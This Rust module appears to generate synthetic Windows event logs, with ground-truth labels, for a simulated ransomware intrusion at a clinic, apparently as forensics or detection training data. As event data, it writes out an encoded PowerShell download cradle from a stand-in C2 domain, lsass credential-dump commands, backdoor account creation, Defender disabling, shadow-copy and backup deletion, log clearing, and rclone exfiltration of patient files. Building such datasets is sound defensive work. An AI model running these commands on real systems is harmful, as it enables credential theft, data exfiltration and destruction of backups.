//! The attack, step by step, in local (Europe/Berlin) time.

use super::*;

const WINWORD: &str = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
const OUTLOOK: &str = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE";
const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const RUNDLL: &str = "C:\\Windows\\System32\\rundll32.exe";
const LSASS: &str = "C:\\Windows\\system32\\lsass.exe";
const PSEXESVC: &str = "C:\\Windows\\PSEXESVC.exe";
const LOCKER: &str = "C:\\ProgramData\\lckr.exe";
/// The encoded PowerShell the macro runs (base64 of the UTF-16 download cradle).
const ENC: &str = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBjAGQAbgAtAHUAcABkAGEAdABlAC0AYwBoAGUAYwBrAC4AYwBvAG0ALwBhAC4AcABzADEAJwApAA==";
const CRADLE: &str =
    "IEX (New-Object Net.WebClient).DownloadString('https://cdn-update-check.com/a.ps1')";

fn logon(
    ts: i64,
    host: usize,
    user: usize,
    ltype: &str,
    from: [u8; 4],
    workstation: &str,
) -> WinEv {
    let u = &USERS[user];
    WinEv::new(
        ts,
        host,
        Kind::Logon4624,
        684,
        &[
            ("SubjectUserSid", "S-1-0-0"),
            ("SubjectUserName", "-"),
            ("SubjectDomainName", "-"),
            ("SubjectLogonId", "0x0"),
            ("TargetUserSid", &u.sid()),
            ("TargetUserName", u.name),
            ("TargetDomainName", DOMAIN),
            ("TargetLogonId", "0x5a3c1f2"),
            ("LogonType", ltype),
            (
                "LogonProcessName",
                if ltype == "10" { "User32 " } else { "NtLmSsp " },
            ),
            (
                "AuthenticationPackageName",
                if ltype == "10" { "Negotiate" } else { "NTLM" },
            ),
            ("WorkstationName", workstation),
            ("LogonGuid", "{00000000-0000-0000-0000-000000000000}"),
            ("TransmittedServices", "-"),
            ("LmPackageName", if ltype == "10" { "-" } else { "NTLM V2" }),
            ("KeyLength", if ltype == "10" { "0" } else { "128" }),
            ("ProcessId", "0x0"),
            ("ProcessName", "-"),
            ("IpAddress", &ip(from)),
            ("IpPort", "0"),
            ("ImpersonationLevel", "%%1833"),
            ("RestrictedAdminMode", "-"),
            ("TargetOutboundUserName", "-"),
            ("TargetOutboundDomainName", "-"),
            ("VirtualAccount", "%%1843"),
            ("TargetLinkedLogonId", "0x0"),
            ("ElevatedToken", "%%1842"),
        ],
    )
}

fn fail(ts: i64, host: usize, user: &str, from: [u8; 4], workstation: &str) -> WinEv {
    WinEv::new(
        ts,
        host,
        Kind::LogonFail4625,
        684,
        &[
            ("SubjectUserSid", "S-1-0-0"),
            ("SubjectUserName", "-"),
            ("SubjectDomainName", "-"),
            ("SubjectLogonId", "0x0"),
            ("TargetUserSid", "S-1-0-0"),
            ("TargetUserName", user),
            ("TargetDomainName", DOMAIN),
            ("Status", "0xc000006d"),
            ("FailureReason", "%%2313"),
            ("SubStatus", "0xc000006a"),
            ("LogonType", "3"),
            ("LogonProcessName", "NtLmSsp "),
            ("AuthenticationPackageName", "NTLM"),
            ("WorkstationName", workstation),
            ("TransmittedServices", "-"),
            ("LmPackageName", "-"),
            ("KeyLength", "0"),
            ("ProcessId", "0x0"),
            ("ProcessName", "-"),
            ("IpAddress", &ip(from)),
            ("IpPort", "0"),
        ],
    )
}

fn subject(user: usize, sid: &str) -> [(&'static str, &str); 4] {
    [
        ("SubjectUserSid", sid),
        ("SubjectUserName", USERS[user].name),
        ("SubjectDomainName", DOMAIN),
        ("SubjectLogonId", "0x5a3c1f2"),
    ]
}

fn service(ts: i64, host: usize, name: &str, path: &str, start: &str) -> WinEv {
    WinEv::new(
        ts,
        host,
        Kind::ServiceInstall7045,
        780,
        &[
            ("ServiceName", name),
            ("ImagePath", path),
            ("ServiceType", "user mode service"),
            ("StartType", start),
            ("AccountName", "LocalSystem"),
        ],
    )
    .sid(&USERS[U_ADMIN].sid())
}

/// PsExec from `from` (as the admin) to `to`: 4648 at the source, 4624/4672/5140/5145 and
/// 7045 PSEXESVC at the target, SMB through the firewalls, PSEXESVC starting `cmd`.
fn psexec(c: &mut Ctx, ts: i64, from: &P, to: usize, cmd: &str, gt: Option<&'static str>) -> P {
    let admin = USERS[U_ADMIN].sid();
    let t = &HOSTS[to];
    let mut f = subject(U_ADMIN, &admin).to_vec();
    f.extend([
        ("TargetUserName", USERS[U_ADMIN].name),
        ("TargetDomainName", DOMAIN),
        ("TargetServerName", t.name),
        ("TargetInfo", t.name),
        ("ProcessId", "0x4"),
        ("ProcessName", ""),
        ("IpAddress", "-"),
        ("IpPort", "-"),
    ]);
    c.win(WinEv::new(ts, from.host, Kind::ExplicitCred4648, 684, &f));
    let src = HOSTS[from.host].ip;
    c.win(logon(
        ts + 80 * MINUTE / 6000,
        to,
        U_ADMIN,
        "3",
        src,
        HOSTS[from.host].name,
    ));
    let mut p = subject(U_ADMIN, &admin).to_vec();
    p.push(("PrivilegeList", "SeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\tSeTakeOwnershipPrivilege\r\n\t\t\tSeDebugPrivilege"));
    c.win(WinEv::new(
        ts + 15_000_000,
        to,
        Kind::SpecialPriv4672,
        684,
        &p,
    ));
    let src_ip = ip(src);
    let mut share = subject(U_ADMIN, &admin).to_vec();
    share.extend([
        ("ObjectType", "File"),
        ("IpAddress", src_ip.as_str()),
        ("IpPort", "50112"),
        ("ShareName", "\\\\*\\ADMIN$"),
        ("ShareLocalPath", "\\??\\C:\\Windows"),
        ("AccessMask", "0x1"),
        ("AccessList", "%%4416\r\n\t\t\t\t"),
    ]);
    c.win(WinEv::new(
        ts + 30_000_000,
        to,
        Kind::ShareAccess5140,
        4,
        &share,
    ));
    share.truncate(7);
    share.extend([
        ("ShareName", "\\\\*\\ADMIN$"),
        ("ShareLocalPath", "\\??\\C:\\Windows"),
        ("RelativeTargetName", "PSEXESVC.exe"),
        ("AccessMask", "0x2"),
        ("AccessList", "%%4417\r\n\t\t\t\t"),
        ("AccessReason", "-"),
    ]);
    c.win(WinEv::new(
        ts + 40_000_000,
        to,
        Kind::ShareFile5145,
        4,
        &share,
    ));
    let mut ev = service(
        ts + 900_000_000,
        to,
        "PSEXESVC",
        "%SystemRoot%\\PSEXESVC.exe",
        "demand start",
    );
    ev.gt = gt;
    c.win(ev);
    if t.ip[2] != src[2] {
        c.s.flows.push(Flow {
            ts: ts + 5_000_000,
            src,
            sport: 50112,
            dst: t.ip,
            dport: 445,
            proto: 6,
            allow: true,
            sent: 412_330,
            rcvd: 18_211,
            dur: 14,
            gt: None,
        });
    }
    let services = c.existing(
        to,
        "C:\\Windows\\System32\\services.exe",
        "C:\\Windows\\system32\\services.exe",
        "NT AUTHORITY\\SYSTEM",
    );
    let svc = c.proc(
        ts + 950_000_000,
        &services,
        PSEXESVC,
        "C:\\Windows\\PSEXESVC.exe",
        None,
    );
    c.proc(ts + 1_200_000_000, &svc, CMD, cmd, None)
}

/// Sysmon 10: `src` (thread `tid`) opens lsass (pid `lsass_pid`) with full access, as
/// credential dumpers do; `trace` is the call trace.
fn lsass_access(
    c: &mut Ctx,
    ts: i64,
    host: usize,
    src: &P,
    tid: &str,
    lsass_pid: &str,
    trace: &str,
) -> WinEv {
    let lsass_guid = c.rng.guid();
    WinEv::new(
        ts,
        host,
        Kind::SysmonLsass10,
        3412,
        &[
            (
                "RuleName",
                "technique_id=T1003,technique_name=Credential Dumping",
            ),
            ("UtcTime", &sysmon_time(ts)),
            ("SourceProcessGUID", &src.guid),
            ("SourceProcessId", &src.pid.to_string()),
            ("SourceThreadId", tid),
            ("SourceImage", &src.image),
            ("TargetProcessGUID", &lsass_guid),
            ("TargetProcessId", lsass_pid),
            ("TargetImage", LSASS),
            ("GrantedAccess", "0x1FFFFF"),
            ("CallTrace", trace),
            ("SourceUser", &src.user),
            ("TargetUser", "NT AUTHORITY\\SYSTEM"),
        ],
    )
    .sid("S-1-5-18")
}

pub(super) fn run(c: &mut Ctx) {
    let rec = H_RECEPTION;
    let keller = &USERS[U_KELLER];
    let admin_sid = USERS[U_ADMIN].sid();
    let rec_ip = HOSTS[rec].ip;

    // Friday 15:47 — the phishing attachment is opened from Outlook.
    let outlook = c.existing(
        rec,
        OUTLOOK,
        "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" ",
        keller.name,
    );
    let t0 = local(13, 15, 47, 12) + 318_000_000;
    let doc = "C:\\Users\\m.keller\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7RZ2K1M\\Befund_Nachreichung_0313.docm";
    c.file(t0 - 4 * NS, &outlook, doc, None);
    let word = c.proc(
        t0,
        &outlook,
        WINWORD,
        &format!("\"{WINWORD}\" /n \"{doc}\" /o \"\""),
        None,
    );
    // 15:48 — the macro starts an encoded PowerShell.
    let t1 = t0 + 41 * NS;
    let cmd = c.proc(
        t1,
        &word,
        CMD,
        &format!("cmd.exe /c powershell -nop -w hidden -enc {ENC}"),
        Some("Word macro spawns cmd.exe (phishing attachment executed)"),
    );
    let ps = c.proc(
        t1 + 400_000_000,
        &cmd,
        POWERSHELL,
        &format!("powershell  -nop -w hidden -enc {ENC}"),
        Some("Encoded PowerShell started by cmd.exe under WINWORD"),
    );
    let sb = c.rng.guid();
    c.win(
        WinEv::new(
            t1 + 900_000_000,
            rec,
            Kind::PsScript4104,
            6120,
            &[
                ("MessageNumber", "1"),
                ("MessageTotal", "1"),
                ("ScriptBlockText", CRADLE),
                ("ScriptBlockId", &sb),
                ("Path", ""),
            ],
        )
        .sid(&keller.sid())
        .gt("PowerShell script block: download cradle from cdn-update-check.com"),
    );
    c.dns(t1 + 1_100_000_000, &ps, C2_DOMAIN, C2_IP);
    c.connect(
        t1 + 1_300_000_000,
        &ps,
        C2_IP,
        443,
        1_840,
        48_213,
        3,
        Some("First C2 connection to 185.225.73.18:443"),
    );

    // Beaconing every ~5 minutes until the encryption on Saturday evening.
    let mut t = t1 + 5 * MINUTE;
    let end = local(14, 21, 30, 0);
    while t < end {
        let jitter = c.rng.below(90) as i64 * NS;
        let (sent, rcvd) = (c.rng.range(600, 2_400), c.rng.range(300, 9_000));
        c.connect(t + jitter, &ps, C2_IP, 443, sent, rcvd, 1, None);
        t += 5 * MINUTE;
    }

    // 16:20 — discovery.
    let recon = [
        "whoami /all",
        "net group \"domain admins\" /domain",
        "nltest /dclist:klinikum-see.local",
        "net view \\\\FS-01 /all",
    ];
    for (i, r) in recon.iter().enumerate() {
        c.proc(
            local(13, 16, 20 + i as u32, 5),
            &ps,
            CMD,
            &format!("\"C:\\Windows\\system32\\cmd.exe\" /c {r}"),
            None,
        );
    }

    // 16:35 — password spraying against the DC from the reception PC (4625 burst).
    let names = [
        "administrator",
        "admin",
        "backup",
        "scanner",
        "j.weber",
        "a.fischer",
        "t.wagner",
        "s.becker",
        "l.hoffmann",
        "k.schulz",
        "praxis",
        "empfang",
        "radiologie",
        "labor",
        "station3",
        "it-support",
    ];
    let mut ts = local(13, 16, 35, 2);
    for (i, n) in names.iter().cycle().take(48).enumerate() {
        let mut ev = fail(ts, H_DC, n, rec_ip, HOSTS[rec].name);
        if i == 0 {
            ev.gt = Some("Start of a 4625 burst: password spraying from WS-RECEPTION-01");
        }
        c.win(ev);
        ts += c.rng.range(400, 2_500) as i64 * 1_000_000;
    }

    // 17:05 — lsass dump with comsvcs.dll MiniDump.
    let t2 = local(13, 17, 5, 33);
    let lsass_pid = 668;
    let dump = c.proc(t2, &ps, RUNDLL, &format!("\"C:\\Windows\\system32\\rundll32.exe\" C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass_pid} C:\\Users\\Public\\lsass.dmp full"), Some("rundll32 comsvcs.dll MiniDump of lsass"));
    let comsvcs = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|C:\\Windows\\System32\\comsvcs.dll+2c1a1|UNKNOWN(00000000001F0AB2)";
    let dumping = lsass_access(
        c,
        t2 + 200_000_000,
        rec,
        &dump,
        "5120",
        &lsass_pid.to_string(),
        comsvcs,
    );
    c.win(dumping.gt("lsass.exe opened with 0x1FFFFF by rundll32 (credential dumping)"));
    c.file(t2 + 2 * NS, &dump, "C:\\Users\\Public\\lsass.dmp", None);

    // 22:14 — PsExec to FS-01 with the stolen admin credentials.
    let t3 = local(13, 22, 14, 9);
    let fs_cmd = psexec(
        c,
        t3,
        &ps,
        H_FS,
        "cmd.exe",
        Some("PSEXESVC service installed on FS-01 (lateral movement)"),
    );
    // 22:30 — a local admin for later.
    let t4 = local(13, 22, 30, 47);
    c.proc(
        t4,
        &fs_cmd,
        "C:\\Windows\\System32\\net.exe",
        "net user support_svc Winter2026! /add",
        None,
    );
    let new_sid = "S-1-5-21-2911276143-2270584913-1842906512-1009".to_string();
    let mut f = vec![
        ("TargetUserName", "support_svc"),
        ("TargetDomainName", "FS-01"),
        ("TargetSid", new_sid.as_str()),
    ];
    f.extend(subject(U_ADMIN, &admin_sid));
    f.extend([
        ("PrivilegeList", "-"),
        ("SamAccountName", "support_svc"),
        ("DisplayName", "%%1793"),
        ("UserPrincipalName", "-"),
        ("HomeDirectory", "%%1793"),
        ("HomePath", "%%1793"),
        ("ScriptPath", "%%1793"),
        ("ProfilePath", "%%1793"),
        ("UserWorkstations", "%%1793"),
        ("PasswordLastSet", "%%1794"),
        ("AccountExpires", "%%1794"),
        ("PrimaryGroupId", "513"),
        ("AllowedToDelegateTo", "-"),
        ("OldUacValue", "0x0"),
        ("NewUacValue", "0x15"),
        (
            "UserAccountControl",
            "\r\n\t\t%%2080\r\n\t\t%%2082\r\n\t\t%%2084",
        ),
        ("UserParameters", "%%1793"),
        ("SidHistory", "-"),
        ("LogonHours", "%%1797"),
    ]);
    c.win(
        WinEv::new(t4 + 60_000_000, H_FS, Kind::UserCreated4720, 684, &f)
            .gt("Local account support_svc created on FS-01"),
    );
    c.proc(
        t4 + 20 * NS,
        &fs_cmd,
        "C:\\Windows\\System32\\net.exe",
        "net localgroup administrators support_svc /add",
        None,
    );
    let mut g = vec![
        ("MemberName", "-"),
        ("MemberSid", new_sid.as_str()),
        ("TargetUserName", "Administrators"),
        ("TargetDomainName", "Builtin"),
        ("TargetSid", "S-1-5-32-544"),
    ];
    g.extend(subject(U_ADMIN, &admin_sid));
    g.push(("PrivilegeList", "-"));
    c.win(
        WinEv::new(t4 + 20 * NS + 80_000_000, H_FS, Kind::GroupAdd4732, 684, &g)
            .gt("support_svc added to the local Administrators group"),
    );

    // 23:05 — RDP from FS-01 to the DC; Saturday 01:12 procdump of lsass on the DC.
    c.win(logon(
        local(13, 23, 5, 40),
        H_DC,
        U_ADMIN,
        "10",
        HOSTS[H_FS].ip,
        "FS-01",
    ));
    let dc_explorer = c.existing(
        H_DC,
        "C:\\Windows\\explorer.exe",
        "C:\\Windows\\Explorer.EXE",
        USERS[U_ADMIN].name,
    );
    let dc_cmd = c.proc(
        local(13, 23, 9, 2),
        &dc_explorer,
        CMD,
        "\"C:\\Windows\\system32\\cmd.exe\" ",
        None,
    );
    let t5 = local(14, 1, 12, 30);
    let pd = c.proc(
        t5,
        &dc_cmd,
        "C:\\Windows\\Temp\\procdump64.exe",
        "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\ls.dmp",
        Some("procdump64 dumping lsass on DC-01"),
    );
    let dbghelp = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|C:\\Windows\\System32\\dbghelp.dll+3e1f0";
    let dumping = lsass_access(c, t5 + 300_000_000, H_DC, &pd, "2244", "704", dbghelp);
    c.win(dumping);

    // 02:00 — persistence: a service and a scheduled task on FS-01 and DC-01.
    for (i, &h) in [H_FS, H_DC].iter().enumerate() {
        let ts = local(14, 2, 3 + 4 * i as u32, 11);
        c.win(service(
            ts,
            h,
            "WinSysHelper",
            "C:\\ProgramData\\svchelper.exe -k netsvcs",
            "auto start",
        ));
        let mut f = subject(U_ADMIN, &admin_sid).to_vec();
        let content = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"><Triggers><BootTrigger><Enabled>true</Enabled></BootTrigger></Triggers><Principals><Principal id=\"Author\"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals><Actions Context=\"Author\"><Exec><Command>C:\\ProgramData\\svchelper.exe</Command></Exec></Actions></Task>";
        f.extend([
            ("TaskName", "\\Microsoft\\Windows\\Maintenance\\SysHelper"),
            ("TaskContent", content),
        ]);
        let mut ev = WinEv::new(ts + 40 * NS, h, Kind::TaskCreated4698, 1288, &f);
        if h == H_FS {
            ev.gt = Some(
                "Scheduled task \\Microsoft\\Windows\\Maintenance\\SysHelper created (persistence)",
            );
        }
        c.win(ev);
    }

    // 03:10–05:40 — exfiltration from FS-01 with rclone.
    let t6 = local(14, 3, 10, 4);
    let rclone = c.proc(
        t6,
        &fs_cmd,
        "C:\\ProgramData\\rclone.exe",
        "rclone.exe copy D:\\Patientenakten remote:bk --transfers 8 --no-check-certificate -q",
        Some("rclone.exe started on FS-01 (exfiltration)"),
    );
    c.dns(t6 + NS, &rclone, EXFIL_DOMAIN, EXFIL_IP);
    let mut t = t6 + 2 * NS;
    for i in 0..30 {
        let gt =
            (i == 0).then_some("First large outbound transfer to 31.220.45.110 (exfiltration)");
        let (sent, rcvd) = (
            c.rng.range(800_000_000, 1_400_000_000),
            c.rng.range(2_000_000, 6_000_000),
        );
        c.connect(t, &rclone, EXFIL_IP, 443, sent, rcvd, 300, gt);
        t += 5 * MINUTE;
    }

    // Saturday 19:30 — Defender switched off; 20:05 shadow copies and backup catalog deleted.
    for (i, &h) in [H_FS, H_DC, H_BACKUP, rec].iter().enumerate() {
        let ts = local(14, 19, 30 + i as u32, 14);
        let shell = if h == rec {
            ps.clone()
        } else {
            c.existing(h, POWERSHELL, "powershell.exe", USERS[U_ADMIN].name)
        };
        c.proc(
            ts,
            &shell,
            POWERSHELL,
            "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true",
            None,
        );
        c.win(WinEv::new(ts + 2 * NS, h, Kind::SysmonReg13, 3412, &[
            ("RuleName", "technique_id=T1562,technique_name=Impair Defenses"),
            ("EventType", "SetValue"),
            ("UtcTime", &sysmon_time(ts + 2 * NS)),
            ("ProcessGuid", &shell.guid),
            ("ProcessId", &shell.pid.to_string()),
            ("Image", "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe"),
            ("TargetObject", "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring"),
            ("Details", "DWORD (0x00000001)"),
            ("User", "NT AUTHORITY\\SYSTEM"),
        ]).sid("S-1-5-18"));
        let mut ev = WinEv::new(
            ts + 3 * NS,
            h,
            Kind::DefenderRtpOff5001,
            3120,
            &[
                ("Product Name", "Microsoft Defender Antivirus"),
                ("Product Version", "4.18.24090.11"),
            ],
        )
        .sid("S-1-5-18");
        if h == H_FS {
            ev.gt = Some("Defender real-time protection disabled on FS-01");
        }
        c.win(ev);
    }
    for (i, &h) in [H_FS, H_BACKUP].iter().enumerate() {
        let ts = local(14, 20, 5 + 2 * i as u32, 31);
        let shell = c.existing(h, CMD, "cmd.exe", USERS[U_ADMIN].name);
        let gt = (h == H_FS).then_some("vssadmin delete shadows /all /quiet on FS-01");
        c.proc(
            ts,
            &shell,
            "C:\\Windows\\System32\\vssadmin.exe",
            "vssadmin.exe delete shadows /all /quiet",
            gt,
        );
        c.proc(
            ts + 30 * NS,
            &shell,
            "C:\\Windows\\System32\\wbadmin.exe",
            "wbadmin delete catalog -quiet",
            None,
        );
    }

    // 20:15 — logs cleared on the servers.
    for (i, &h) in [H_FS, H_DC, H_BACKUP].iter().enumerate() {
        let ts = local(14, 20, 15 + i as u32, 2);
        let mut ev = WinEv::new(
            ts,
            h,
            Kind::LogCleared1102,
            1288,
            &subject(U_ADMIN, &admin_sid),
        );
        if h == H_DC {
            ev.gt = Some("Security log cleared on DC-01 (1102)");
        }
        c.win(ev);
        c.win(
            WinEv::new(
                ts + 4 * NS,
                h,
                Kind::SystemLogCleared104,
                1288,
                &[
                    ("SubjectUserName", USERS[U_ADMIN].name),
                    ("SubjectDomainName", DOMAIN),
                    ("Channel", "System"),
                    ("BackupPath", ""),
                ],
            )
            .sid(&admin_sid),
        );
    }

    // 20:40 — the locker is pushed with PsExec and encrypts shares and local files.
    let dc_src = c.existing(H_DC, CMD, "cmd.exe", USERS[U_ADMIN].name);
    let mut first = true;
    for (i, h) in HOSTS.iter().enumerate() {
        if i == H_DC {
            continue;
        }
        let ts = local(14, 20, 40, 0) + i as i64 * 47 * NS;
        let shell = psexec(
            c,
            ts,
            &dc_src,
            i,
            &format!("cmd.exe /c {LOCKER} -path C:\\ -net"),
            None,
        );
        let locker = c.proc(
            ts + 3 * NS,
            &shell,
            LOCKER,
            &format!("{LOCKER} -path C:\\ -net"),
            None,
        );
        let files = if i == H_FS { 120 } else { 25 };
        let root = if i == H_FS {
            "D:\\Patientenakten".to_string()
        } else {
            format!("C:\\Users\\{}\\Documents", USERS[h.user].name)
        };
        for k in 0..files {
            let path = format!(
                "{root}\\{:04}_{}.pdf.locked",
                1000 + k,
                ["Befund", "Arztbrief", "Labor", "Roentgen"][k % 4]
            );
            let gt =
                (first && i == H_FS && k == 0).then_some("First encrypted file (.locked) on FS-01");
            c.file(ts + 10 * NS + k as i64 * 700_000_000, &locker, &path, gt);
        }
        c.file(
            ts + 10 * NS + files as i64 * 700_000_000,
            &locker,
            &format!("{root}\\README_RESTORE_FILES.txt"),
            None,
        );
        if i == H_FS {
            first = false;
        }
    }
}
